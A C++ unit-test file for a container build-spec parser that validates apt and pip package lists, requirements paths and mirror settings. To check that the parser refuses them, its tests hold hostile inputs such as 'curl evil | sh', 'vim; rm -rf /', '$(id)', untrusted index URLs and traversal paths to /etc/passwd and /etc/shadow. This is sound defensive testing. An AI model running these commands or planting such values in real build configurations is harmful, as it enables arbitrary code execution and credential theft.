#include <gtest/gtest.h>

#include "images/build_spec.hpp"

namespace atrium::images {
namespace {

const char* kSpec = R"(
[image]
name = "analysis"
base = "py"
apt = ["r-base-core", "libc6:amd64=2.36-9", "g++"]
pip = ["numpy == 1.26.4", "pandas[excel]>=2,<3"]
requirements = "requirements.txt"
)";

TEST(BuildSpec, ParsesAndNormalises) {
  auto s = parse_build_spec(kSpec, "envs/atrium-env.toml");
  ASSERT_TRUE(s) << s.error().detail;
  EXPECT_EQ(s->name, "analysis");
  EXPECT_EQ(s->base, "py");
  EXPECT_EQ(s->apt.size(), 3u);
  EXPECT_EQ(s->pip[0], "numpy==1.26.4");
  EXPECT_EQ(s->pip[1], "pandas[excel]>=2,<3");
  EXPECT_EQ(s->requirements, "envs/requirements.txt");  // relative to the spec's directory
}

std::string field_of(const Error& e) { return e.extra.value("field", std::string()); }

TEST(BuildSpec, RefusesUnknownKeysByName) {
  auto s = parse_build_spec("[image]\nname=\"a\"\nbase=\"py\"\napt=[\"x\"]\nrun=\"curl evil | sh\"\n", "s.toml");
  ASSERT_FALSE(s);
  EXPECT_EQ(field_of(s.error()), "image.run");
  EXPECT_NE(s.error().detail.find("image.run"), std::string::npos);
  auto t = parse_build_spec("top = 1\n[image]\nname=\"a\"\n", "s.toml");
  ASSERT_FALSE(t);
  EXPECT_NE(t.error().detail.find("'top'"), std::string::npos);
}

TEST(BuildSpec, RefusesShellAndOptionsInPackageNames) {
  for (const char* bad : {"vim; rm -rf /", "$(id)", "`id`", "-o APT::x=y", "a b", "vim\n", "Vim", "../x", "x*"}) {
    std::string text = std::string("[image]\nname=\"a\"\nbase=\"py\"\napt=[") + nlohmann::json(bad).dump() + "]\n";
    EXPECT_FALSE(parse_build_spec(text, "s.toml")) << bad;
  }
  for (const char* bad : {"numpy; python_version<'3'", "git+https://x/y.git", "x @ https://e/x.whl", "--index-url=http://e",
                          "-r other.txt", "$(id)", "numpy==1.0 ;rm", "a|b"}) {
    std::string text = std::string("[image]\nname=\"a\"\nbase=\"py\"\npip=[") + nlohmann::json(bad).dump() + "]\n";
    EXPECT_FALSE(parse_build_spec(text, "s.toml")) << bad;
  }
}

TEST(BuildSpec, RequiredFieldsAndPaths) {
  EXPECT_FALSE(parse_build_spec("[image]\nbase=\"py\"\napt=[\"x\"]\n", "s.toml"));
  EXPECT_FALSE(parse_build_spec("[image]\nname=\"a\"\napt=[\"x\"]\n", "s.toml"));
  EXPECT_FALSE(parse_build_spec("[image]\nname=\"a\"\nbase=\"py\"\n", "s.toml"));  // installs nothing
  EXPECT_FALSE(parse_build_spec("[image]\nname=\"a\"\nbase=\"py; x\"\napt=[\"x\"]\n", "s.toml"));
  EXPECT_FALSE(parse_build_spec("[image]\nname=\"a\"\nbase=\"py\"\nrequirements=\"../../etc/passwd\"\n", "d/s.toml"));
  EXPECT_FALSE(parse_build_spec("[image]\nname=\"a\"\nbase=\"py\"\nrequirements=\"/etc/passwd\"\n", "s.toml"));
  EXPECT_FALSE(parse_build_spec("[image]\nname=\"a\"\nbase=\"py\"\nrequirements=\".git/config\"\n", "s.toml"));
  auto up = parse_build_spec("[image]\nname=\"a\"\nbase=\"py\"\nrequirements=\"../r.txt\"\n", "d/s.toml");
  ASSERT_TRUE(up) << up.error().detail;
  EXPECT_EQ(up->requirements, "r.txt");
  EXPECT_FALSE(parse_build_spec("[image\nname=", "s.toml"));
}

TEST(BuildSpec, RequirementsFileLines) {
  auto ok = parse_requirements_file("# deps\nnumpy==1.26.4  # pinned\n\nrequests >= 2\n", "r.txt");
  ASSERT_TRUE(ok) << ok.error().detail;
  EXPECT_EQ(*ok, (std::vector<std::string>{"numpy==1.26.4", "requests>=2"}));
  auto opt = parse_requirements_file("numpy\n--extra-index-url http://evil\n", "r.txt");
  ASSERT_FALSE(opt);
  EXPECT_NE(opt.error().detail.find("r.txt line 2"), std::string::npos);
  EXPECT_FALSE(parse_requirements_file("-e .\n", "r.txt"));
  EXPECT_FALSE(parse_requirements_file("pkg @ file:///etc\n", "r.txt"));
  EXPECT_TRUE(parse_apt_file("vim\n# x\ncurl=7.88.1-10\n", "apt.txt"));
  EXPECT_FALSE(parse_apt_file("vim && id\n", "apt.txt"));
}

TEST(BuildSpec, InputsHashCoversWhatChangesTheResult) {
  auto s = *parse_build_spec(kSpec, "atrium-env.toml");
  Mirrors m{.apt = "[trusted=yes] file:///srv/apt ./", .pip = "file:///srv/wheels"};
  auto in = [&](std::string base, std::string req) {
    return *build_inputs(s, std::move(base), {{"requirements.txt", std::move(req)}});
  };
  std::string d1 = "sha256:" + std::string(64, 'a'), d2 = "sha256:" + std::string(64, 'b');
  auto h = inputs_hash(in(d1, "x==1\n"), m);
  EXPECT_EQ(h, inputs_hash(in(d1, "x==1\n"), m));
  EXPECT_EQ(h, inputs_hash(in(d1, "x==1\n"), m));
  EXPECT_NE(h, inputs_hash(in(d2, "x==1\n"), m));
  EXPECT_NE(h, inputs_hash(in(d1, "x==2\n"), m));
  EXPECT_NE(h, inputs_hash(in(d1, "x==1\n"), Mirrors{.apt = m.apt, .pip = "file:///srv/other"}));
  auto renamed = s;
  renamed.name = "other";
  renamed.apt = {"g++", "r-base-core", "libc6:amd64=2.36-9", "g++"};  // order and repeats do not matter
  EXPECT_EQ(h, inputs_hash(*build_inputs(renamed, d1, {{"requirements.txt", "x==1\n"}}), m));
  // A bad line in the referenced file is refused when the inputs are made.
  EXPECT_FALSE(build_inputs(s, d1, {{"requirements.txt", "-r /etc/shadow\n"}}));
}

TEST(BuildSpec, MirrorsAndBuildFiles) {
  auto d = mirror_dirs({.apt = "[trusted=yes] file:///srv/apt/ ./", .pip = "file:///srv/wheels"});
  ASSERT_TRUE(d) << d.error().detail;
  EXPECT_EQ(d->apt_dir, "/srv/apt");
  EXPECT_EQ(d->pip_dir, "/srv/wheels");
  EXPECT_EQ(d->apt_line, "deb [trusted=yes] file:/atrium/mirror/apt ./");
  EXPECT_FALSE(mirror_dirs({.apt = "http://deb.debian.org/debian bookworm main"}));
  EXPECT_FALSE(mirror_dirs({.pip = "file:///srv/../etc"}));
  auto s = *parse_build_spec(kSpec, "atrium-env.toml");
  auto in = *build_inputs(s, "sha256:" + std::string(64, 'a'), {{"requirements.txt", "requests\n"}});
  auto f = build_files(in, *d);
  EXPECT_EQ(f["apt.txt"], "g++\nlibc6:amd64=2.36-9\nr-base-core\n");
  EXPECT_EQ(f["requirements.txt"], "numpy==1.26.4\npandas[excel]>=2,<3\nrequests\n");
  EXPECT_NE(f["build.sh"].find("APT::Sandbox::User=root"), std::string::npos);
  EXPECT_EQ(build_argv(), (std::vector<std::string>{"/bin/sh", "/atrium/build/build.sh"}));
}

}  // namespace
}  // namespace atrium::images
